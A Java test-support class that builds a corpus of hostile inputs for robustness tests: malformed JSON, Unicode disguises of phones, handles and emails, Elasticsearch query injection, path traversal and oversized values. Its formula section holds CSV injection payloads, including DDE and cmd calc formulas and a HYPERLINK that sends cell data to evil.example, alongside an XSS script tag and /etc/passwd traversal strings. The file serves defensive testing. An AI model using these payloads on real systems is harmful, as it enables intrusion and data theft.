package uk.crossline.testsupport.corpus;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/**
 * One hostile input of the corpus: a whole request body, or a value a test places into a field.
 *
 * @param name what the input is, as a test's display name
 * @param family what kind of attack or accident it stands for
 * @param bytes the input as sent when it is a whole body (some are not UTF-8 at all)
 * @param text the input as a string, which may hold invisible characters and unpaired surrogates
 */
public record BadInput(String name, Family family, byte[] bytes, String text) {

  BadInput(String name, Family family, String text) {
    this(name, family, text.getBytes(StandardCharsets.UTF_8), text);
  }

  BadInput(String name, Family family, byte[] bytes) {
    this(name, family, bytes, new String(bytes, StandardCharsets.UTF_8));
  }

  /** The kinds of input, each placed where a service takes such a thing. */
  public enum Family {
    /** A whole JSON body: malformed, truncated, nested, not UTF-8. */
    DOCUMENT,
    /** A value for a free-text field: Unicode tricks, markup, control characters. */
    TEXT,
    /** A phone number disguised with homoglyphs, invisible or bidi characters. */
    PHONE,
    /** A social media handle so disguised. */
    HANDLE,
    /** An email address so disguised. */
    EMAIL,
    /** A cell that a spreadsheet would run as a formula. */
    FORMULA,
    /** Elasticsearch query syntax or script fragments in search text. */
    QUERY,
    /** Path traversal in something used as a name or an id. */
    PATH,
    /** A value far longer than any field allows. */
    HUGE
  }

  /**
   * The input as a JSON string literal's content: quotes and backslashes escaped, control
   * characters and unpaired surrogates as {@code \\u} escapes, as a careless client writes them.
   */
  public String jsonString() {
    var out = new StringBuilder();
    text()
        .chars()
        .forEach(
            c -> {
              switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                  if (c < 0x20 || Character.isSurrogate((char) c)) {
                    out.append(String.format("\\u%04x", c));
                  } else {
                    out.append((char) c);
                  }
                }
              }
            });
    return out.toString();
  }

  @Override
  public String toString() {
    return family + ": " + name;
  }

  /** Every input of a family. */
  public static List<BadInput> of(Family family) {
    return all().filter(input -> input.family() == family).toList();
  }

  /**
   * The first {@code count} inputs of a family: a sample, where every place times every input is
   * too slow.
   */
  public static List<BadInput> first(int count, Family family) {
    return of(family).stream().limit(count).toList();
  }

  /** Every input of these families. */
  public static List<BadInput> of(Family... families) {
    var wanted = Arrays.asList(families);
    return all().filter(input -> wanted.contains(input.family())).toList();
  }

  /** The whole corpus. */
  public static Stream<BadInput> all() {
    var all = new ArrayList<BadInput>();
    documents(all);
    texts(all);
    identifiers(all);
    formulas(all);
    queries(all);
    paths(all);
    huge(all);
    return all.stream();
  }

  private static void documents(List<BadInput> all) {
    doc(all, "empty body", "");
    doc(all, "whitespace only", "  \n\t ");
    doc(all, "not JSON at all", "reports please");
    doc(all, "truncated in a string", "{\"reference\": \"T-1\", \"summary\": \"Deal li");
    doc(all, "truncated after a colon", "{\"reference\": \"T-1\", \"summary\": ");
    doc(all, "unclosed object", "{\"reference\": \"T-1\"");
    doc(all, "an array, not an object", "[]");
    doc(all, "JSON null", "null");
    doc(all, "a bare string", "\"report\"");
    doc(all, "two documents", "{} {}");
    doc(all, "trailing brace", "{}}");
    doc(all, "single quotes", "{'reference': 'T-1'}");
    doc(all, "comments", "{/* a */ \"reference\": \"T-1\"}");
    doc(all, "unquoted NaN", "{\"latitude\": NaN}");
    doc(all, "number of 5,000 digits", "{\"size\": " + "9".repeat(5_000) + "}");
    doc(all, "exponent 1e999999", "{\"size\": 1e999999}");
    doc(all, "arrays nested 10,000 deep", "[".repeat(10_000) + "]".repeat(10_000));
    doc(all, "objects nested 3,000 deep", "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000));
    doc(all, "a key of 100,000 characters", "{\"" + "k".repeat(100_000) + "\": 1}");
    all.add(
        new BadInput(
            "invalid UTF-8 in a string (C3 28)",
            Family.DOCUMENT,
            concat("{\"reference\": \"T-", new byte[] {(byte) 0xC3, 0x28}, "\"}")));
    all.add(
        new BadInput(
            "overlong UTF-8 slash (C0 AF)",
            Family.DOCUMENT,
            concat("{\"reference\": \"", new byte[] {(byte) 0xC0, (byte) 0xAF}, "\"}")));
    all.add(
        new BadInput(
            "lone UTF-8 continuation byte",
            Family.DOCUMENT,
            concat("{\"reference\": \"", new byte[] {(byte) 0x80}, "\"}")));
    all.add(
        new BadInput(
            "UTF-16LE body",
            Family.DOCUMENT,
            "{\"reference\": \"T-1\"}".getBytes(StandardCharsets.UTF_16LE)));
    all.add(
        new BadInput(
            "NUL bytes", Family.DOCUMENT, concat("{\"reference\"", new byte[] {0, 0}, ": 1}")));
  }

  private static void texts(List<BadInput> all) {
    text(all, "right-to-left override", "Seen at the \u202Egnp.exe\u202C shop on Sunday.");
    text(all, "bidi isolate left open", "Seen near the \u2067station on Sunday.");
    text(all, "zero-width space, joiner, non-joiner", "Seen\u200B near\u200D the\u200C station.");
    text(all, "byte order mark and word joiner", "\uFEFFSeen near\u2060 the station.");
    text(all, "Cyrillic homoglyphs", "Sееn nеar thе stаtion.");
    text(all, "combining characters piled up", "Seen near Z" + "\u0336\u0334".repeat(200) + ".");
    text(all, "ANSI escape and bell", "Seen near \u001B[31mthe\u001B[0m station.\u0007");
    text(all, "NUL character", "Seen near\u0000 the station.");
    text(all, "unpaired high surrogate", "Seen near \uD83D the station.");
    text(all, "unpaired low surrogate", "Seen near \uDE00 the station.");
    text(
        all,
        "emoji with zero-width joiners",
        "Family seen: \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67.");
    text(all, "HTML script", "<script>alert(document.cookie)</script> seen near the station.");
    text(all, "phone hidden by zero-width spaces", "Call 07700\u200B900\u200B321 for a deal.");
    text(
        all,
        "phone in full-width digits",
        "Call \uFF10\uFF17\uFF17\uFF10\uFF10 \uFF19\uFF10\uFF10\uFF13\uFF12\uFF11 for a deal.");
    text(all, "phone split by soft hyphens", "Call 07700\u00AD900\u00AD321 for a deal.");
  }

  private static void identifiers(List<BadInput> all) {
    id(
        all,
        Family.PHONE,
        "full-width digits",
        "\uFF10\uFF17\uFF17\uFF10\uFF10 \uFF19\uFF10\uFF10\uFF11\uFF12\uFF13");
    id(
        all,
        Family.PHONE,
        "Arabic-Indic digits",
        "\u0660\u0667\u0667\u0660\u0660 \u0669\u0660\u0660\u0661\u0662\u0663");
    id(all, Family.PHONE, "Cyrillic O for zero", "\u041E7700 900123");
    id(all, Family.PHONE, "zero-width space inside", "07700\u200B900123");
    id(all, Family.PHONE, "zero-width joiner inside", "07700 900\u200D123");
    id(all, Family.PHONE, "right-to-left override", "\u202E07700 900123");
    id(all, Family.PHONE, "byte order mark first", "\uFEFF07700 900123");
    id(all, Family.PHONE, "soft hyphen inside", "07700\u00AD900123");
    id(all, Family.PHONE, "NUL inside", "07700\u0000900123");
    id(all, Family.HANDLE, "zero-width space inside", "snapchat:dave\u200B_99");
    id(all, Family.HANDLE, "Cyrillic a", "snapchat:d\u0430ve_99");
    id(all, Family.HANDLE, "Greek omicron", "instagram:r\u03BFnnie_x");
    id(all, Family.HANDLE, "right-to-left override", "snapchat:\u202E99_evad");
    id(all, Family.HANDLE, "full-width then Cyrillic", "snapchat:\uFF44\u0430ve_99");
    id(all, Family.EMAIL, "zero-width space in the local part", "dave\u200B99@example.org");
    id(all, Family.EMAIL, "Cyrillic a in the local part", "d\u0430ve99@example.org");
    id(all, Family.EMAIL, "Cyrillic e in the domain", "dave99@\u0435xample.org");
    id(all, Family.EMAIL, "right-to-left override", "\u202Egro.elpmaxe@99evad");
  }

  private static void formulas(List<BadInput> all) {
    formula(all, "equals HYPERLINK", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    formula(all, "plus command", "+cmd|' /C calc'!A0");
    formula(all, "minus sum", "-2+3+cmd|' /C calc'!A0");
    formula(all, "at SUM", "@SUM(1+1)*cmd|' /C calc'!A0");
    formula(all, "tab then equals", "\t=1+1");
    formula(all, "carriage return then equals", "\r=1+1");
    formula(all, "full-width equals", "\uFF1D1+1");
    formula(all, "DDE", "=DDE(\"cmd\";\"/C calc\";\"!A0\")");
  }

  private static void queries(List<BadInput> all) {
    query(all, "match everything", "*:*");
    query(all, "field query on agency", "agency.id:* OR _exists_:summary");
    query(all, "lucene regex", "/.*/");
    query(all, "unbalanced brackets", "((((deal");
    query(all, "unbalanced quote", "\"deal line");
    query(all, "fuzzy and boost", "deal~2^100 line");
    query(all, "range", "observedAt:[* TO *]");
    query(all, "leading wildcard", "*line");
    query(all, "backslashes", "deal\\\\line\\");
    query(all, "JSON query", "{\"query\":{\"match_all\":{}}}");
    query(all, "script", "{\"script\":{\"source\":\"ctx._source.summary='x'\"}}");
    query(all, "painless injection", "'; doc['agency.id'].value; '");
    query(all, "mustache", "{{#toJson}}_source{{/toJson}}");
    query(all, "only operators", "+ - && || ! ( ) { } [ ] ^ \" ~ * ? : \\ /");
  }

  private static void paths(List<BadInput> all) {
    path(all, "dot-dot slash", "../../../etc/passwd");
    path(all, "encoded dot-dot slash", "..%2F..%2F..%2Fetc%2Fpasswd");
    path(all, "double-encoded", "%252e%252e%252f");
    path(all, "backslashes", "..\\..\\windows\\win.ini");
    path(all, "NUL truncation", "report.csv\u0000.exe");
    path(all, "absolute path", "/etc/passwd");
    path(all, "index wildcard", "crossline-*");
    path(all, "Elasticsearch API", "_all/_search");
  }

  private static void huge(List<BadInput> all) {
    all.add(new BadInput("4,001 characters", Family.HUGE, "a".repeat(4_001)));
    all.add(new BadInput("100,000 characters", Family.HUGE, "a".repeat(100_000)));
    all.add(new BadInput("400 KB", Family.HUGE, "a".repeat(400 * 1024)));
  }

  private static void doc(List<BadInput> all, String name, String json) {
    all.add(new BadInput(name, Family.DOCUMENT, json));
  }

  private static void text(List<BadInput> all, String name, String text) {
    all.add(new BadInput(name, Family.TEXT, text));
  }

  private static void id(List<BadInput> all, Family family, String name, String value) {
    all.add(new BadInput(name, family, value));
  }

  private static void formula(List<BadInput> all, String name, String cell) {
    all.add(new BadInput(name, Family.FORMULA, cell));
  }

  private static void query(List<BadInput> all, String name, String text) {
    all.add(new BadInput(name, Family.QUERY, text));
  }

  private static void path(List<BadInput> all, String name, String text) {
    all.add(new BadInput(name, Family.PATH, text));
  }

  private static byte[] concat(String before, byte[] middle, String after) {
    byte[] head = before.getBytes(StandardCharsets.UTF_8);
    byte[] tail = after.getBytes(StandardCharsets.UTF_8);
    byte[] all = Arrays.copyOf(head, head.length + middle.length + tail.length);
    System.arraycopy(middle, 0, all, head.length, middle.length);
    System.arraycopy(tail, 0, all, head.length + middle.length, tail.length);
    return all;
  }
}
